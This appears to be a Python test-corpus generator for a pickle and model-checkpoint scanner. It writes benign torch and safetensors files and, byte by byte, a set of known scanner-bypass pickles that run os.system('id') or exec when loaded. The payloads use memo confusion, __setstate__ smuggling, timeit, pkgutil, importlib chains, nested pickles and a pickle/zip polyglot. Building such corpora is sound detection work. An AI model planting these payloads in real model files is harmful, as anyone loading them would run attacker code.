# SPDX-License-Identifier: MIT
"""Known pickle-scanner bypasses, written byte by byte (no pickling of
live objects), and benign checkpoints written by their producers. Used by
tests/cli/test_scanner_bypasses.py (quantaudit must flag every bypass and
no benign file) and bench/scanners.py (the same corpus through picklescan,
fickling, modelscan and ModelAudit).

Each bypass names the advisory or issue it comes from."""
import io
import os
import struct
import zipfile


def u(s):
    """SHORT_BINUNICODE."""
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b


def glob(mod, name):
    """GLOBAL (protocol 0-2 form)."""
    return b"c" + mod.encode() + b"\n" + name.encode() + b"\n"


P2 = b"\x80\x02"
P4 = b"\x80\x04"
TUPLE1, TUPLE2, REDUCE, STOP, POP = b"\x85", b"\x86", b"R", b".", b"0"
EMPTY_TUPLE, EMPTY_DICT, BUILD, SETITEM = b")", b"}", b"b", b"s"


def binput(i):
    return b"q" + bytes([i])


def binget(i):
    return b"h" + bytes([i])


def binbytes(b):
    return b"C" + bytes([len(b)]) + b if len(b) < 256 else \
        b"B" + struct.pack("<I", len(b)) + b


def system_call(cmd="id"):
    return P2 + glob("os", "system") + u(cmd) + TUPLE1 + REDUCE + STOP


BYPASSES = {
    # memo confusion: STACK_GLOBAL's module and name come from the memo,
    # not from string opcodes before it (picklescan GHSA-9gvj-pp9x-gcfr,
    # "pickle parsing logic flaw"; fickling issue 190)
    "memo-stack-global": P4 + u("os") + binput(1) + POP + u("system") +
        binput(2) + POP + binget(1) + binget(2) + b"\x93" + u("id") +
        TUPLE1 + REDUCE + STOP,
    # BUILD smuggling: an allowed object gets __setstate__ = os.system
    # through BUILD's slot state, and a second BUILD calls it (fickling's
    # BUILD handling; pickle's load_build calls inst.__setstate__)
    "build-setstate": P2 + glob("collections", "OrderedDict") +
        EMPTY_TUPLE + REDUCE + b"N" + EMPTY_DICT + u("__setstate__") +
        glob("os", "system") + SETITEM + TUPLE2 + BUILD + u("id") + BUILD +
        STOP,
    # numpy reaching exec: numpy.testing._private.utils.runstring
    # execs its argument (picklescan's list gained it after a report)
    "numpy-runstring": P2 + glob("numpy.testing._private.utils",
                                 "runstring") +
        u("import os; os.system('id')") + EMPTY_DICT + TUPLE2 + REDUCE +
        STOP,
    # a pickle inside a pickle: pickle.loads on bytes the outer one holds
    "nested-loads": P2 + glob("_pickle", "loads") +
        binbytes(system_call()) + TUPLE1 + REDUCE + STOP,
    # importlib.import_module('os') then getattr: no GLOBAL of os at all
    # (picklescan issue 66, "blocklist remains bypassable via importlib
    # and attribute chains")
    "importlib-getattr": P2 + glob("builtins", "getattr") +
        glob("importlib", "import_module") + u("os") + TUPLE1 + REDUCE +
        u("system") + TUPLE2 + REDUCE + u("id") + TUPLE1 + REDUCE + STOP,
    # pkgutil.resolve_name('os:system'): one function reaching every
    # other (picklescan GHSA-vvpj-8cmc-gx39)
    "pkgutil-resolve-name": P2 + glob("pkgutil", "resolve_name") +
        u("os:system") + TUPLE1 + REDUCE + u("id") + TUPLE1 + REDUCE + STOP,
    # ensurepip._run_pip runs pip with attacker arguments
    # (picklescan GHSA-xp4f-hrf8-rxw7)
    "ensurepip-run-pip": P2 + glob("ensurepip", "_run_pip") +
        b"]" + u("install") + b"a" + TUPLE1 + REDUCE + STOP,
    # timeit.timeit runs a statement (picklescan GHSA-v7x6-rv5q-mhwc)
    "timeit": P2 + glob("timeit", "timeit") +
        u("__import__('os').system('id')") + TUPLE1 + REDUCE + STOP,
    # marshal.loads of a code object made into a function
    "marshal-function": P2 + glob("types", "FunctionType") +
        glob("marshal", "loads") + binbytes(b"\xe3" + b"\0" * 40) +
        TUPLE1 + REDUCE + EMPTY_DICT + TUPLE2 + REDUCE + EMPTY_TUPLE +
        REDUCE + STOP,
}


def torch_zip_bytes(data_pkl):
    """A zip laid out as torch.save writes one (archive/data.pkl first)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        z.writestr("archive/data.pkl", data_pkl)
        z.writestr("archive/version", "3\n")
        z.writestr("archive/byteorder", "little")
    return buf.getvalue()


def write_corpus(out):
    """Writes the corpus under out/bypass and out/benign; returns
    ({name: path}, {name: path})."""
    bad, good = {}, {}
    os.makedirs(os.path.join(out, "bypass"), exist_ok=True)
    os.makedirs(os.path.join(out, "benign"), exist_ok=True)
    for name, data in BYPASSES.items():
        p = os.path.join(out, "bypass", name + ".pkl")
        with open(p, "wb") as f:
            f.write(data)
        bad[name] = p
    # archive in archive: a torch zip whose data.pkl is os.system,
    # stored inside another zip
    inner = torch_zip_bytes(system_call())
    p = os.path.join(out, "bypass", "zip-in-zip.zip")
    with zipfile.ZipFile(p, "w", zipfile.ZIP_STORED) as z:
        z.writestr("model.pt", inner)
    bad["zip-in-zip"] = p
    # the same torch zip as a checkpoint of its own
    p = os.path.join(out, "bypass", "torch-zip.pt")
    with open(p, "wb") as f:
        f.write(inner)
    bad["torch-zip"] = p
    # polyglot: a malicious pickle, then a benign torch zip after it
    # (the zip's end record makes zip readers see only the zip)
    p = os.path.join(out, "bypass", "polyglot.pt")
    with open(p, "wb") as f:
        f.write(system_call() + torch_zip_bytes(P2 + EMPTY_DICT + STOP))
    bad["polyglot"] = p
    try:
        import torch
        from safetensors.torch import save_file
    except ImportError:
        return bad, good
    sd = {"w": torch.arange(16, dtype=torch.float32).reshape(4, 4),
          "b": torch.zeros(4)}
    p = os.path.join(out, "benign", "state-dict.pt")
    torch.save(sd, p)
    good["torch.save zip"] = p
    p = os.path.join(out, "benign", "legacy.pt")
    torch.save(sd, p, _use_new_zipfile_serialization=False)
    good["torch.save legacy"] = p
    p = os.path.join(out, "benign", "model.safetensors")
    save_file(sd, p)
    good["safetensors"] = p
    return bad, good
